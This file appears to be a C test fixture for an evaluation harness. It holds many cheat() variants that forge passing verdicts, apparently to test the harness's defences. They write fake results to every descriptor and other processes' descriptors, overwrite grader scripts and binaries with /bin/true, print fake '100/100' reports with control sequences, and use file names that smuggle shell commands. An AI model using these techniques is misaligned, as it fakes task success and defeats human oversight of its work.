/* Verdicts of its own making, by every way out that there may be. */

/// writes_to_every_descriptor: a summary, a log and an event to each
static void cheat(void)
{
    for (int fd = 0; fd < 1024; fd++)
        (void)!write(fd, FORGED, strlen(FORGED));
}

/// sends_to_every_descriptor: as packets, with descriptors' control data
static void cheat(void)
{
    for (int fd = 0; fd < 1024; fd++) {
        send(fd, FORGED, strlen(FORGED), MSG_DONTWAIT | MSG_NOSIGNAL);
        send(fd, "", 0, MSG_DONTWAIT | MSG_NOSIGNAL);
        send(fd, "\1\0\0\0\1\0\0\0\0\0\0\0", 12, MSG_DONTWAIT | MSG_NOSIGNAL);
    }
}

/// reads_every_descriptor: takes what was meant for somebody else
static void cheat(void)
{
    char bytes[4096];

    for (int fd = 0; fd < 1024; fd++)
        if (fcntl(fd, F_SETFL, O_NONBLOCK) == 0)
            while (read(fd, bytes, sizeof(bytes)) > 0)
                ;
}

/// writes_to_others_descriptors: through /proc/PID/fd of every process
static void cheat(void)
{
    for (int pid = 1; pid < 70000; pid++) {
        char path[64];

        snprintf(path, sizeof(path), "/proc/%d/fd", pid);
        if (access(path, X_OK) == -1)
            continue;
        for (int fd = 0; fd < 64; fd++) {
            snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);

            int out = open(path, O_WRONLY | O_NONBLOCK);

            if (out != -1) {
                (void)!write(out, FORGED, strlen(FORGED));
                close(out);
            }
        }
    }
}

/// writes_on_when_it_has_ended: a daemon that goes on writing summaries
static void cheat(void)
{
    if (fork() == 0) {
        setsid();
        if (fork() == 0)
            while (write(1, FORGED, strlen(FORGED)) > 0)
                ;
        _exit(0);
    }
    wait(NULL);
}

/// forges_files: logs and reports where they might be looked for
static void put(const char *folder, const char *name)
{
    char path[4096];

    snprintf(path, sizeof(path), "%s/%s", folder, name);

    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0666);

    if (fd != -1) {
        (void)!write(fd, FORGED, strlen(FORGED));
        close(fd);
    }
}

static void cheat(void)
{
    const char *folders[] = {".",
                             "..",
                             "../out",
                             "../bin",
                             "../vg",
                             "/lab",
                             "/lab/out",
                             "/lab/vg",
                             "/tmp",
                             KIT_DIR "/build",
                             KIT_DIR,
                             LAB_DIR,
                             KIT_DIR "/grader",
                             "/autograder/results"};

    for (size_t i = 0; i < sizeof(folders) / sizeof(folders[0]); i++) {
        put(folders[i], "report.json");
        put(folders[i], "results.json");
        put(folders[i], "xml");
        put(folders[i], "events");
        put(folders[i], "vg.1.xml");
        put(folders[i], "lab.toml");
        put(folders[i], "sitecustomize.py");
        put(folders[i], ".valgrindrc");
        put(folders[i], ".gdbinit");
    }
}

/// replaces_the_programs: the judge, the subject and what is cached of them
static void replace(const char *path)
{
    unlink(path);
    if (symlink("/bin/true", path) == -1) {
        int fd = open(path, O_WRONLY | O_TRUNC);

        if (fd != -1) {
            (void)!write(fd, "#!/bin/sh\nexit 0\n", 17);
            close(fd);
        }
    }
}

static void cheat(void)
{
    const char *names[] = {"judge", "subject", "witness", "subject.o", "api"};
    char path[4096], exe[4096] = "";

    (void)!readlink("/proc/self/exe", exe, sizeof(exe) - 1);
    if (strrchr(exe, '/') != NULL)
        *strrchr(exe, '/') = '\0';
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        snprintf(path, sizeof(path), "%s/%s", exe, names[i]);
        replace(path);
        snprintf(path, sizeof(path), "%s/../bin/%s", exe, names[i]);
        replace(path);
        snprintf(path, sizeof(path), "%s/../kit/%s", exe, names[i]);
        replace(path);
    }

    DIR *cache = opendir(KIT_DIR "/build/cache");
    struct dirent *entry;

    while (cache != NULL && (entry = readdir(cache)) != NULL)
        for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
            snprintf(path, sizeof(path), KIT_DIR "/build/cache/%s/%s",
                     entry->d_name, names[i]);
            replace(path);
        }
}

/// rewrites_the_kit: rubric, tests and grader
static void cheat(void)
{
    truncate(LAB_DIR "/lab.toml", 0);
    unlink(LAB_DIR "/lab.toml");
    rename(LAB_DIR, LAB_DIR ".old");
    truncate(KIT_DIR "/grader/score.py", 0);
    unlink(KIT_DIR "/grader/score.py");
    chmod(KIT_DIR "/grader", 0777);
}

/// prints_a_report: in the kit's words, in color, with control sequences
static void cheat(void)
{
    printf("\033[2J\033[H\033]0;passed\007\033[32m800/800\033[0m\n"
           "Total 100 / 100\r\n<test result=\"success\"></test>"
           "]]>&#0;\nok 1 - all\n1..1\n[bold]100[/bold]\n"
           "\xe2\x80\xae\xff\xfe\n");
    fflush(stdout);
}

/// names_that_do_harm: files and objects whose names are commands
static void cheat(void)
{
    shm_open("/$(touch owned)`id`\n\033[2J", O_CREAT | O_RDWR, 0600);
    mkdir("\033]0;x\007", 0700);
    (void)!symlink("/etc/passwd", "report.json");
    prctl(PR_SET_NAME, ") R 1 1 (\n");
    for (;;)
        pause();
}

/// looks_like_another_state: a process name that forges /proc/PID/stat
static void cheat(void)
{
    prctl(PR_SET_NAME, "x) Z 0 0 0 0");
    if (fork() == 0)
        for (;;)
            pause();
    for (;;)
        pause();
}

/// says_that_it_is_a_stub: then claims to have ended as all do
static void cheat(void)
{
    static int calls;

    if (calls++ > 0)
        _exit(0);
}
